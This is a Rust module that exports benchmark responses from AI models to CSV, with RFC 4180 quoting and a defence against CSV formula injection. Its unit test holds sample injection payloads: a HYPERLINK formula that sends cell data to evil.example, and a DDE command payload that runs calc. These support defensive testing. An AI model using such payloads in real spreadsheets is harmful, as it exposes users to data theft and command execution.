//! The CSV export: one row per response, for spreadsheets.
//!
//! The columns are [`COLUMNS`], in that order, with that header; they keep their names and
//! meaning within a [`super::SCHEMA_VERSION`] (new columns are only ever added at the end).
//! Quoting follows RFC 4180: fields holding a comma, a quote or a line break are quoted, quotes
//! doubled, and records end with CRLF. Unknown values are empty fields, never 0.
//!
//! A field a spreadsheet would run as a formula (starting with `=`, `+`, `-`, `@`, a tab or a
//! carriage return, and not a plain number) gets a leading `'`, as OWASP's CSV injection
//! guidance says (CWE-1236): a model's answer `=HYPERLINK(…)` must not become a live link or a
//! command in Excel, LibreOffice or Sheets. The JSON export keeps every text exact.

use super::{Report, ResponseSection, format_number};

/// The header row. Indices are 0-based, as in `run --json`.
pub const COLUMNS: [&str; 33] = [
    "run_id",
    "prompt_index",
    "target_index",
    "repeat_index",
    "target",
    "provider",
    "model",
    "region",
    "reported_model",
    "request_id",
    "outcome",
    "finish_reason",
    "time_to_first_token_ms",
    "total_ms",
    "output_tokens_per_second",
    "input_tokens",
    "output_tokens",
    "reasoning_tokens",
    "total_tokens",
    "cost_usd",
    "cost_source",
    "attempts",
    "error_kind",
    "error_status",
    "error_code",
    "error_message",
    "mean_similarity",
    "is_majority",
    "is_outlier",
    "prompt",
    "text",
    "base_model",
    "client_saturated",
];

/// The report as CSV: the header, then one row per response.
pub fn render(report: &Report) -> String {
    let mut out = String::new();
    push_record(&mut out, COLUMNS.iter().map(|column| (*column).to_owned()));
    for response in &report.responses {
        push_record(&mut out, row(report, response));
    }
    out
}

fn row(report: &Report, response: &ResponseSection) -> [String; COLUMNS.len()] {
    let optional = |value: Option<String>| value.unwrap_or_default();
    let count = |value: Option<u64>| value.map(|value| value.to_string()).unwrap_or_default();
    let number = |value: Option<f64>| value.map(|value| value.to_string()).unwrap_or_default();
    let error = response.error.as_ref();
    let prompt = report
        .prompts
        .get(response.prompt_index as usize)
        .and_then(|prompt| {
            prompt
                .messages
                .iter()
                .rev()
                .find(|message| message.role == crate::model::request::Role::User)
        })
        .map(|message| message.content.clone());
    [
        report.run.id.clone(),
        response.prompt_index.to_string(),
        response.target_index.to_string(),
        response.repeat_index.to_string(),
        response.target.clone(),
        response.provider.clone(),
        response.model.clone(),
        optional(response.region.clone()),
        optional(response.reported_model.clone()),
        optional(response.request_id.clone()),
        response.outcome.as_str().to_owned(),
        optional(response.finish_reason.map(|reason| reason.as_str().to_owned())),
        number(response.metrics.time_to_first_token_ms),
        response.metrics.total_ms.to_string(),
        number(response.metrics.output_tokens_per_second),
        count(response.usage.input_tokens),
        count(response.usage.output_tokens),
        count(response.usage.reasoning_tokens),
        count(response.usage.total_tokens),
        number(response.cost.usd),
        optional(response.cost.source.clone()),
        response.attempts.to_string(),
        optional(error.map(|error| error.kind.clone())),
        optional(error.and_then(|error| error.status).map(|status| status.to_string())),
        optional(error.and_then(|error| error.code.clone())),
        optional(error.map(|error| error.message.clone())),
        response
            .mean_similarity
            .map(|ratio| format_number(Some(ratio), 4))
            .unwrap_or_default(),
        response.is_majority.to_string(),
        response.is_outlier.to_string(),
        optional(prompt),
        response.text.clone(),
        optional(response.base_model.clone()),
        response.metrics.client_saturated.to_string(),
    ]
}

fn push_record(out: &mut String, fields: impl IntoIterator<Item = String>) {
    for (index, field) in fields.into_iter().enumerate() {
        if index > 0 {
            out.push(',');
        }
        push_field(out, &field);
    }
    out.push_str("\r\n");
}

/// One field, defused if a spreadsheet would read it as a formula, and quoted when RFC 4180
/// requires it.
fn push_field(out: &mut String, field: &str) {
    let defused;
    let field = if is_formula(field) {
        defused = format!("'{field}");
        defused.as_str()
    } else {
        field
    };
    if field.contains([',', '"', '\r', '\n']) {
        out.push('"');
        out.push_str(&field.replace('"', "\"\""));
        out.push('"');
    } else {
        out.push_str(field);
    }
}

/// Whether a spreadsheet would evaluate `field`: it starts with a formula character and is not
/// just a number (`-1.5` stays a number).
fn is_formula(field: &str) -> bool {
    field.starts_with(['=', '+', '-', '@', '\t', '\r']) && field.parse::<f64>().is_err()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_defused() {
        let mut out = String::new();
        push_record(
            &mut out,
            [
                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
                "+cmd|' /C calc'!A0",
                "-2+3",
                "@SUM(A1)",
                "\tx",
                "\r=1",
                "-1.5",
                "a=b",
                "",
            ]
            .map(str::to_owned),
        );
        assert_eq!(
            out,
            "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",'+cmd|' /C calc'!A0,'-2+3,'@SUM(A1),'\tx,\"'\r=1\",-1.5,a=b,\r\n"
        );
    }

    #[test]
    fn fields_are_quoted_as_rfc_4180_says() {
        let mut out = String::new();
        push_record(
            &mut out,
            ["plain", "a,b", "say \"hi\"", "two\nlines", "cr\r", ""].map(str::to_owned),
        );
        assert_eq!(out, "plain,\"a,b\",\"say \"\"hi\"\"\",\"two\nlines\",\"cr\r\",\r\n");
    }
}
